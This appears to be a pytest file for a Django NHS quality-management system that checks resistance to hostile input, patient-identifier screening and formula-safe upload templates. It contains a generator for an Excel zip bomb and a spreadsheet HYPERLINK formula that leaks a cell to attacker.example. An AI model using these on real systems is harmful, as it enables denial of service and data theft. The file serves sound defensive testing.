"""Input that cannot hurt: Excel zip bombs, oversized requests, control characters, patient
identifiers in free text, formula-safe templates and what the API discloses.

Users are those of tests/conftest.py: lead and member in Ward 7, partner in Ward 7, outsider in
another board. Races between two saves are in test_save_races.py.
"""

import csv
import datetime as dt
import hashlib
import io
import json
import re
import time
import zipfile
from urllib.parse import urlencode

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import TestCase
from helpers import make_api_key, record

from qms.control import imports, services
from qms.control.models import (
    Annotation,
    Measure,
    Observation,
    Phase,
    Signal,
    Standard,
)
from qms.escalation import services as escalation_services
from qms.escalation.models import Escalation
from qms.issues.models import Issue
from qms.people.models import ApiKey
from qms.web.screening import CONFIRM_FIELD, CONFIRM_LABEL, IDENTIFIER_REFUSAL

API = "/control/api/v1/observations"
HEADER = "measure,period,value,denominator,note\n"
NHS_NUMBER = "943 476 5919"  # the NHS's published example: a valid check digit
NOT_NHS_NUMBER = "943 476 5918"  # the same with a wrong check digit: a plain number
STABLE = [6, 5, 7, 6, 5, 6, 7, 5, 6, 6, 5, 7, 6, 5, 6, 7, 6, 5, 6, 6]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture(autouse=True)
def upload_folder(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def key(org):
    return make_api_key(org["ward"], write=True, name="Ward system")


@pytest.fixture
def signal(measure):
    record(measure, STABLE)
    record(measure, [25], start=dt.date(2025, 9, 1))
    return Signal.objects.get(measure=measure)


def post_api(client, body, key):
    with TestCase.captureOnCommitCallbacks(execute=True):
        return client.post(
            API,
            body if isinstance(body, str) else json.dumps(body),
            content_type="application/json",
            HTTP_AUTHORIZATION=f"Bearer {key}",
        )


def falls(period="2025-03", value=3, denominator=812, **fields):
    return {"measure": "ward-7-falls", "period": period, "value": value,
            "denominator": denominator, **fields}  # fmt: skip


def upload(client, name, content, content_type="text/csv"):
    return client.post(
        "/control/upload/", {"file": SimpleUploadedFile(name, content, content_type=content_type)}
    )


def problems_of(response):
    html = response.content.decode()
    table = re.search(r'<table class="problems">.*?</table>', html, re.S)
    assert table, "no problems table"
    return re.findall(
        r'<tr><th scope="row">(.*?)</th><td>(.*?)</td><td>(.*?)</td></tr>', table.group(0)
    )


def workbook_bytes(rows) -> bytes:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# Excel zip bombs ---------------------------------------------------------------------------------

BOMB_ROWS = 1_600_000  # each row parses into Python objects: minutes of CPU for openpyxl


def zip_bomb(rows=BOMB_ROWS) -> bytes:
    """A real .xlsx made by openpyxl whose sheet is replaced by millions of identical rows:
    a few hundred kilobytes that unpack to hundreds of megabytes of valid sheet XML."""
    source = zipfile.ZipFile(io.BytesIO(workbook_bytes([["measure", "period", "value"]])))
    row = b'<row><c t="inlineStr"><is><t>ward-7-falls</t></is></c><c><v>3</v></c></row>'
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb:
        for member in source.infolist():
            if member.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(member, source.read(member))
                continue
            with bomb.open(member.filename, "w", force_zip64=True) as sheet:
                sheet.write(
                    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
                    b'openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                    b'<row><c t="inlineStr"><is><t>measure</t></is></c></row>'
                )
                chunk = row * 10_000
                for _ in range(rows // 10_000):
                    sheet.write(chunk)
                sheet.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


@pytest.fixture(scope="module")
def bomb():
    return zip_bomb()


def test_the_bomb_is_small_and_unpacks_beyond_every_limit(bomb):
    unpacked = sum(info.file_size for info in zipfile.ZipFile(io.BytesIO(bomb)).infolist())
    assert len(bomb) < 2 * 1024 * 1024
    assert unpacked > imports.XLSX_MAX_UNCOMPRESSED
    assert unpacked > 100 * len(bomb)


def test_it_refuses_an_excel_zip_bomb_before_parsing_it(bomb):
    started = time.process_time()
    with pytest.raises(imports.ReadError, match="unpacks to"):
        imports.read_file(io.BytesIO(bomb), "bomb.xlsx", max_rows=100_000)
    assert time.process_time() - started < 0.5  # openpyxl would take minutes


def test_it_refuses_a_zip_bomb_uploaded_through_the_page_fast(client, as_user, measure, bomb):
    as_user("lead")
    started = time.perf_counter()
    response = upload(client, "bomb.xlsx", bomb, XLSX)
    assert time.perf_counter() - started < 5
    assert response.status_code == 400
    assert "Nothing was saved." in response.content.decode()
    assert "unpacks to" in response.content.decode()
    assert not Observation.objects.exists()


def test_the_import_command_refuses_a_zip_bomb_by_its_compression_ratio(measure, bomb, tmp_path):
    # The command allows a gigabyte unpacked (a million rows is about 220 MB); the ratio of
    # this bomb gives it away all the same.
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(bomb)
    started = time.process_time()
    with pytest.raises(CommandError, match="times its size"):
        call_command("import-observations", str(path), "--no-progress", stdout=io.StringIO())
    assert time.process_time() - started < 0.5
    assert not Observation.objects.exists()


def test_it_refuses_a_workbook_that_unpacks_beyond_the_limit_at_a_modest_ratio():
    # Random-looking text compresses little: the total, not the ratio, stops this one.
    rows = [["measure", "period", "value", "note"]]
    rows += [
        ["ward-7-falls", "2025-01", 3, hashlib.sha256(str(k).encode()).hexdigest() * 4]
        for k in range(5_000)
    ]
    content = workbook_bytes(rows)
    with pytest.raises(imports.ReadError, match="the limit is 1 MB"):
        imports.read_file(io.BytesIO(content), "big.xlsx", max_uncompressed=1024 * 1024)
    assert imports.read_file(io.BytesIO(content), "big.xlsx")  # within the usual limit


def sheet_with_rows(rows_xml: bytes) -> bytes:
    """A workbook whose sheet XML is given, to place rows and cells anywhere."""
    source = zipfile.ZipFile(io.BytesIO(workbook_bytes([["measure"]])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                data = (
                    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
                    b'openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/>'
                    b"<sheetData>" + rows_xml + b"</sheetData></worksheet>"
                )
            target.writestr(member, data)
    return buffer.getvalue()


HEADER_ROW = (
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>measure</t></is></c>'
    b'<c r="B1" t="inlineStr"><is><t>period</t></is></c>'
    b'<c r="C1" t="inlineStr"><is><t>value</t></is></c></row>'
)


def test_it_refuses_a_tiny_sheet_that_claims_rows_far_beyond_the_cap():
    # Without a cap openpyxl yields every blank row up to the one numbered a billion, each as
    # wide as the 16,384 columns the sheet's dimension claims.
    content = sheet_with_rows(
        HEADER_ROW + b'<row r="1000000000"><c r="A1000000000"><v>1</v></c></row>'
    )
    assert len(content) < 10_000
    started = time.process_time()
    with pytest.raises(imports.ReadError, match="beyond row 201"):
        imports.read_file(io.BytesIO(content), "rows.xlsx", max_rows=100)
    assert time.process_time() - started < 2


def test_it_reads_only_the_first_columns_of_a_row_that_claims_thousands():
    content = sheet_with_rows(
        HEADER_ROW + b'<row r="2"><c r="A2" t="inlineStr"><is><t>ward-7-falls</t></is></c>'
        b'<c r="B2" t="inlineStr"><is><t>2025-01</t></is></c><c r="C2"><v>3</v></c>'
        b'<c r="XFD2"><v>9</v></c></row>'
    )
    started = time.process_time()
    records = imports.read_file(io.BytesIO(content), "wide.xlsx", max_rows=100)
    assert time.process_time() - started < 1
    assert records == [(2, "ward-7-falls", "2025-01", 3, None, None)]


def test_it_refuses_a_file_that_is_not_a_zip_as_a_workbook():
    with pytest.raises(imports.ReadError, match="not an Excel workbook"):
        imports.read_file(io.BytesIO(b"measure,period\n"), "fake.xlsx")


# Request sizes -----------------------------------------------------------------------------------


def test_it_answers_an_api_body_beyond_the_limit_with_413_json(client, measure, key, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 10_000
    body = {"observations": [falls(f"20{10 + k // 12}-{k % 12 + 1:02d}") for k in range(200)]}
    response = post_api(client, body, key)
    assert response.status_code == 413
    assert "too large" in response.json()["error"]
    assert not Observation.objects.exists()


def test_the_api_takes_ten_thousand_observations_with_notes_within_the_limit(settings):
    # The API promises 10,000 observations a request: with 500-character notes they must fit.
    item = json.dumps(falls(note="n" * 500))
    assert 10_000 * (len(item) + 2) < settings.DATA_UPLOAD_MAX_MEMORY_SIZE


def test_the_real_limit_refuses_a_huge_api_body_with_413(client, measure, key):
    body = '{"observations": [' + ",".join([json.dumps(falls())] * 120_000) + "]}"
    assert len(body) > 8 * 1024 * 1024
    response = post_api(client, body, key)
    assert response.status_code == 413
    assert "the limit is 8.0\xa0MB" in response.json()["error"]


def test_it_answers_a_form_beyond_the_limit_with_a_clear_page(client, as_user, measure, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1000
    as_user("lead")
    data = {"period": "2025-01", "value": "3", "denominator": "800", "note": "x" * 2000}
    url = f"/control/measures/{measure.pk}/observations/"
    for response in (
        client.post(url, data),  # multipart, as the test client sends it
        client.post(url, urlencode(data), content_type="application/x-www-form-urlencoded"),
    ):
        assert response.status_code == 413
        html = response.content.decode()
        assert "The request is too large: the limit is 1000\xa0bytes" in html
    assert not Observation.objects.exists()


def test_it_answers_an_upload_beyond_the_limit_with_a_clear_page(
    client, as_user, measure, settings
):
    settings.QMS_MAX_UPLOAD_BYTES = 1000
    as_user("lead")
    rows = "".join(f"ward-7-falls,{2000 + k // 12}-{k % 12 + 1:02d},3,800,\n" for k in range(5000))
    response = upload(client, "big.csv", (HEADER + rows).encode())
    assert response.status_code == 413
    assert "The file is too large: the limit is 1000\xa0bytes" in response.content.decode()
    assert not Observation.objects.exists()


def test_it_answers_a_form_with_too_many_fields_with_a_clear_page(
    client, as_user, measure, settings
):
    settings.DATA_UPLOAD_MAX_NUMBER_FIELDS = 5
    as_user("lead")
    data = {f"field{k}": "x" for k in range(10)}
    response = client.post(
        f"/control/measures/{measure.pk}/observations/",
        urlencode(data),
        content_type="application/x-www-form-urlencoded",
    )
    assert response.status_code == 400
    assert "The form sent more fields or files than any page of QMS has" in (
        response.content.decode()
    )


# Control characters ------------------------------------------------------------------------------


def test_the_api_refuses_control_characters_naming_the_field(client, measure, key):
    body = {
        "observations": [falls(note="fine\x00"), {**falls("2025-04"), "measure": "ward\x00-7"}],
        "reason": "bell\x07",
    }
    response = post_api(client, body, key)
    assert response.status_code == 400
    errors = {(e["row"], e["field"]): e["message"] for e in response.json()["errors"]}
    assert "control characters" in errors[(1, "note")] and "NUL" in errors[(1, "note")]
    assert "control characters" in errors[(2, "measure")]
    assert "U+0007" in errors[(None, "reason")]
    assert not Observation.objects.exists()


def test_the_api_keeps_line_breaks_in_notes(client, measure, key):
    response = post_api(client, {"observations": [falls(note="first\r\nsecond\tthird")]}, key)
    assert response.status_code == 201
    assert Observation.objects.get().note == "first\r\nsecond\tthird"


def test_an_upload_refuses_control_characters_by_row_and_column(client, as_user, measure):
    as_user("lead")
    text = HEADER + "ward-7-falls,2025-01,3,800,ok\nward-7-falls,2025-02,3,800,bad\x1b[31m\n"
    response = upload(client, "notes.csv", text.encode())
    assert response.status_code == 400
    ((row, column, message),) = problems_of(response)
    assert (row, column) == ("3", "note")
    assert "control characters" in message and "escape" in message
    assert not Observation.objects.exists()


def test_an_upload_refuses_a_nul_in_a_code_without_a_server_error(client, as_user, measure):
    as_user("lead")
    response = upload(client, "codes.csv", (HEADER + "ward-7\x00falls,2025-01,3,800,\n").encode())
    assert response.status_code == 400
    ((row, column, message),) = problems_of(response)
    assert (row, column) == ("2", "measure")
    assert "NUL" in message


def test_the_import_command_refuses_control_characters(measure, tmp_path):
    path = tmp_path / "nul.csv"
    path.write_text(HEADER + "ward-7-falls,2025-01,3,800,a\x00b\n")
    err = io.StringIO()
    with pytest.raises(CommandError, match="1 problem"):
        call_command("import-observations", str(path), "--no-progress", stdout=io.StringIO(),
                     stderr=err)  # fmt: skip
    assert "Row 2, note: the note contains control characters" in err.getvalue()
    assert not Observation.objects.exists()


@pytest.mark.parametrize(("text", "named"), [("a\x08b", "U+0008"), ("a\x00b", "NUL")])
def test_a_form_refuses_control_characters_naming_the_field(client, as_user, measure, text, named):
    as_user("lead")
    response = client.post(
        f"/control/measures/{measure.pk}/annotations/", {"period": "2025-01", "text": text}
    )
    assert response.status_code == 400
    assert (
        f"Annotation contains control characters that cannot be stored ({named})"
        in response.content.decode()
    )
    assert not Annotation.objects.exists()


def test_a_signal_note_with_a_nul_is_refused_naming_the_field(client, as_user, signal):
    as_user("lead")
    response = client.post(
        f"/control/signals/{signal.pk}/acknowledge/", {"note": "seen\x00"}, follow=True
    )
    assert "Nothing was changed: Note contains control characters" in response.content.decode()
    signal.refresh_from_db()
    assert signal.status == "open"


def test_a_single_line_field_refuses_a_line_break(client, as_user, org):
    as_user("lead")
    response = client.post(
        f"/units/{org['ward'].pk}/api-keys/",
        {"name": "Theatre\nfeed", "can_write": "true", "role": "team_lead",
         "expires_on": "2099-01-01"},
    )  # fmt: skip
    assert response.status_code == 400
    assert "Name of the system contains control characters" in response.content.decode()


# Patient identifiers: refused everywhere ------------------------------------------------------


def test_the_observation_form_refuses_an_nhs_number_naming_the_field(client, as_user, measure):
    as_user("member")
    response = client.post(
        f"/control/measures/{measure.pk}/observations/",
        {"period": "2025-01", "value": "3", "denominator": "800", "note": f"Pt {NHS_NUMBER}"},
    )
    assert response.status_code == 400
    assert f"Note {IDENTIFIER_REFUSAL}" in response.content.decode()
    assert CONFIRM_LABEL not in response.content.decode()  # refused: no box lets it through
    assert not Observation.objects.exists()


def test_the_box_does_not_let_an_nhs_number_through(client, as_user, measure):
    as_user("member")
    response = client.post(
        f"/control/measures/{measure.pk}/observations/",
        {"period": "2025-01", "value": "3", "denominator": "800", "note": NHS_NUMBER,
         CONFIRM_FIELD: "on"},
    )  # fmt: skip
    assert response.status_code == 400
    assert not Observation.objects.exists()


def test_ten_digits_that_fail_the_check_are_saved(client, as_user, measure, key):
    as_user("member")
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.post(
            f"/control/measures/{measure.pk}/observations/",
            {"period": "2025-01", "value": "3", "denominator": "800", "note": NOT_NHS_NUMBER},
        )
    assert response.status_code == 302
    assert (
        post_api(client, {"observations": [falls(note="ref 9434765918")]}, key).status_code == 201
    )
    assert Observation.objects.count() == 2


def test_the_api_refuses_an_nhs_number_in_a_note(client, measure, key):
    response = post_api(client, {"observations": [falls(note=f"NHS {NHS_NUMBER}")]}, key)
    assert response.status_code == 400
    (error,) = response.json()["errors"]
    assert (error["row"], error["field"]) == (1, "note")
    assert IDENTIFIER_REFUSAL in error["message"]
    assert not Observation.objects.exists()


def test_an_upload_refuses_an_nhs_number_in_a_note(client, as_user, measure):
    as_user("lead")
    response = upload(
        client, "n.csv", (HEADER + f"ward-7-falls,2025-01,3,800,{NHS_NUMBER}\n").encode()
    )
    assert response.status_code == 400
    ((row, column, message),) = problems_of(response)
    assert (row, column) == ("2", "note")
    assert IDENTIFIER_REFUSAL in message


def test_the_import_command_refuses_identifiers_in_notes_and_its_reason(measure, tmp_path):
    path = tmp_path / "ids.csv"
    path.write_text(HEADER + "ward-7-falls,2025-01,3,800,9434765919\n")
    err = io.StringIO()
    with pytest.raises(CommandError):
        call_command("import-observations", str(path), "--no-progress", stdout=io.StringIO(),
                     stderr=err)  # fmt: skip
    assert f"Row 2, note: the note {IDENTIFIER_REFUSAL}" in err.getvalue()
    with pytest.raises(CommandError, match="--reason may identify a patient"):
        call_command("import-observations", str(path), "--reason", "Per Mrs Patel")
    assert not Observation.objects.exists()


# Patient identifiers: prompts -----------------------------------------------------------------


def test_a_date_of_birth_in_a_note_gets_a_prompt_and_the_box_lets_it_through(
    client, as_user, measure
):
    as_user("member")
    data = {"period": "2025-01", "value": "3", "denominator": "800", "note": "DOB 12/03/1954"}
    response = client.post(f"/control/measures/{measure.pk}/observations/", data)
    assert response.status_code == 400
    html = response.content.decode()
    assert "Note may identify a patient: a date of birth (“DOB 12/03/1954”)" in html
    assert f'name="{CONFIRM_FIELD}"' in html and CONFIRM_LABEL in html
    assert not Observation.objects.exists()

    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.post(
            f"/control/measures/{measure.pk}/observations/", {**data, CONFIRM_FIELD: "on"}
        )
    assert response.status_code == 302
    assert Observation.objects.get().note == "DOB 12/03/1954"


def test_the_api_refuses_what_a_page_would_ask_about_and_says_what_it_found(client, measure, key):
    response = post_api(client, {"observations": [falls(note="Fell, Mr Smith, bay 3")]}, key)
    assert response.status_code == 400
    (error,) = response.json()["errors"]
    assert error["field"] == "note"
    assert "a person's title and name (“Mr Smith”)" in error["message"]
    assert not Observation.objects.exists()


def test_an_upload_refuses_a_date_of_birth_saying_what_it_found(client, as_user, measure):
    as_user("lead")
    text = HEADER + "ward-7-falls,2025-01,3,800,born 12 March 1954\n"
    response = upload(client, "dob.csv", text.encode())
    ((_, column, message),) = problems_of(response)
    assert column == "note"
    assert "a date of birth (“born 12 March 1954”)" in message


def screened_posts(measure, signal, escalation, org):
    """Every form of control with a free-text field: (url, data, field label, model, check)."""
    ward = org["ward"].pk
    m = measure.pk
    return [
        (f"/control/measures/{m}/phases/", {"starts_on": "2025-06", "reason": "{}"}, "Reason",
         lambda: Phase.objects.filter(reason__contains="Patel").exists()),
        (f"/control/measures/{m}/annotations/", {"period": "2025-06", "text": "{}"}, "Annotation",
         lambda: Annotation.objects.filter(text__contains="Patel").exists()),
        (f"/control/signals/{signal.pk}/acknowledge/", {"note": "{}"}, "Note",
         lambda: Signal.objects.filter(note__contains="Patel").exists()),
        (f"/control/signals/{signal.pk}/close/", {"note": "{}"}, "Note",
         lambda: Signal.objects.filter(note__contains="Patel").exists()),
        (f"/control/signals/{signal.pk}/escalate/", {"reason": "{}"},
         "Why the team cannot fix this itself",
         lambda: Escalation.objects.filter(reason__contains="Patel").exists()),
        (f"/control/signals/{signal.pk}/issue/", {"title": "Falls", "description": "{}"},
         "What is known so far",
         lambda: Issue.objects.filter(description__contains="Patel").exists()),
        (f"/control/signals/{signal.pk}/issue/", {"title": "{}"}, "Issue title",
         lambda: Issue.objects.filter(title__contains="Patel").exists()),
        (f"/escalations/{escalation.pk}/respond/", {"decision": "return",
         "response": "{}"}, "Response",
         lambda: Escalation.objects.filter(response__contains="Patel").exists()),
        (f"/control/measures/{m}/edit/", {**measure_form(measure), "name": "{}"}, "Name",
         lambda: Measure.objects.filter(name__contains="Patel").exists()),
        (f"/control/measures/{m}/edit/",
         {**measure_form(measure), "operational_definition": "{}"}, "Operational definition",
         lambda: Measure.objects.filter(operational_definition__contains="Patel").exists()),
        (f"/control/units/{ward}/standards/new/",
         {"title": "{}", "code": "s1", "statement": "Call bells", "source": "Team"}, "Title",
         lambda: Standard.objects.filter(title__contains="Patel").exists()),
        (f"/control/units/{ward}/standards/new/",
         {"title": "Bells", "code": "s1", "statement": "{}", "source": "Team"}, "Statement",
         lambda: Standard.objects.filter(statement__contains="Patel").exists()),
        (f"/units/{ward}/api-keys/",
         {"name": "{}", "can_write": "false", "role": "analyst", "expires_on": _NEXT_YEAR},
         "Name of the system", lambda: ApiKey.objects.filter(name__contains="Patel").exists()),
    ]  # fmt: skip


_NEXT_YEAR = (dt.date.today() + dt.timedelta(days=365)).isoformat()


def measure_form(measure):
    fields = ["name", "code", "kind", "domain", "operational_definition", "frequency", "chart",
              "direction", "multiply", "unit_label", "target", "shift_length", "trend_length",
              "rules"]  # fmt: skip
    data = {name: getattr(measure, name) for name in fields}
    data["owner"] = measure.owner_id
    return {k: "" if v is None else v for k, v in data.items()}


@pytest.fixture
def escalation(signal, lead):
    """Ward 7's signal escalated to Medicine, where the quality lead (division) answers."""
    return escalation_services.escalate(by=lead, subject=signal, reason="Outside our control")


@pytest.mark.parametrize("index", range(13))
def test_every_free_text_field_refuses_an_nhs_number_naming_it(
    client, org, measure, signal, escalation, quality_lead, index
):
    url, data, label, saved = screened_posts(measure, signal, escalation, org)[index]
    client.force_login(quality_lead)  # a lead of the division: handles the escalated signal
    filled = {k: v.replace("{}", f"Patel {NHS_NUMBER}") if isinstance(v, str) else v
              for k, v in data.items()}  # fmt: skip
    response = client.post(url, filled, follow=True)
    assert f"{label} {IDENTIFIER_REFUSAL}" in response.content.decode()
    assert not saved()


@pytest.mark.parametrize("index", range(13))
def test_every_free_text_field_asks_about_a_title_and_name_and_takes_it_when_checked(
    client, org, measure, signal, escalation, quality_lead, index
):
    url, data, label, saved = screened_posts(measure, signal, escalation, org)[index]
    client.force_login(quality_lead)  # a lead of the division: handles the escalated signal
    filled = {k: v.replace("{}", "Discussed with Mrs Patel") if isinstance(v, str) else v
              for k, v in data.items()}  # fmt: skip
    response = client.post(url, filled)
    assert response.status_code == 400
    html = response.content.decode()
    assert f"{label} may identify a patient: a person&#x27;s title and name" in html
    assert f'name="{CONFIRM_FIELD}"' in html
    assert not saved()

    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.post(url, {**filled, CONFIRM_FIELD: "on"})
    assert response.status_code in (200, 302)
    assert saved()


def test_the_upload_reason_is_screened_too(client, as_user, measure):
    as_user("lead")
    record(measure, [3])
    first = upload(client, "r.csv", (HEADER + "ward-7-falls,2024-01,4,800,\n").encode())
    key = re.search(r'name="key" value="([^"]+)"', first.content.decode()).group(1)
    response = client.post(
        "/control/upload/save/", {"key": key, "confirm": "on", "reason": f"From {NHS_NUMBER}"}
    )
    assert response.status_code == 400
    assert f"Why are these values being replaced? {IDENTIFIER_REFUSAL}" in response.content.decode()
    assert Observation.objects.get().value == 3


# Upload templates --------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the new form")'


@pytest.fixture
def formula_measure(org, lead):
    return services.measure_create(
        by=lead, unit=org["ward"], name=FORMULA, code="formula", kind="outcome", domain="safe",
        operational_definition="A measure someone named badly.", frequency="month", chart="c",
        direction="decrease", denominator_definition="-1+1",
    )  # fmt: skip


def test_the_csv_template_escapes_text_a_spreadsheet_would_run(client, as_user, formula_measure):
    as_user("lead")
    response = client.get("/control/upload/template.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    (about,) = [row[5] for row in rows if row[0] == "formula"]
    assert about == "'" + FORMULA + " (Ward 7), Monthly"
    assert not any(cell[:1] in "=+-@" for row in rows for cell in row if cell)


def test_the_excel_template_writes_every_text_cell_as_text(client, as_user, formula_measure):
    as_user("lead")
    response = client.get("/control/upload/template.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
    assert cells
    assert {cell.data_type for cell in cells if isinstance(cell.value, str)} == {"s"}
    (about,) = [row[5].value for row in sheet.iter_rows(min_row=2) if row[0].value == "formula"]
    assert about == "'" + FORMULA + " (Ward 7), Monthly"


def test_a_code_escaped_by_the_template_reads_back_as_the_code():
    assert imports._code("'-ward") == "-ward"
    assert imports._code("ward-7") == "ward-7"


# What the API discloses ------------------------------------------------------------------------


def test_the_api_answers_alike_for_an_unknown_code_and_another_units_code(
    client, org, lead, measure, key
):
    services.measure_create(
        by=None, unit=org["other_ward"], name="Ward 8 falls", code="ward-8-falls",
        kind="outcome", domain="safe", operational_definition="Falls.", frequency="month",
        chart="c", direction="decrease",
    )  # fmt: skip
    answers = []
    for code in ("ward-8-falls", "no-such-mmmm"):
        response = post_api(client, {"observations": [{**falls(), "measure": code}]}, key)
        body = response.json()
        (error,) = body["errors"]
        answers.append(
            (response.status_code, sorted(body), sorted(error), error["row"], error["field"],
             error["message"].replace(code, "CODE"))
        )  # fmt: skip
    assert answers[0] == answers[1]
    assert answers[0][0] == 400
    assert not Observation.objects.exists()
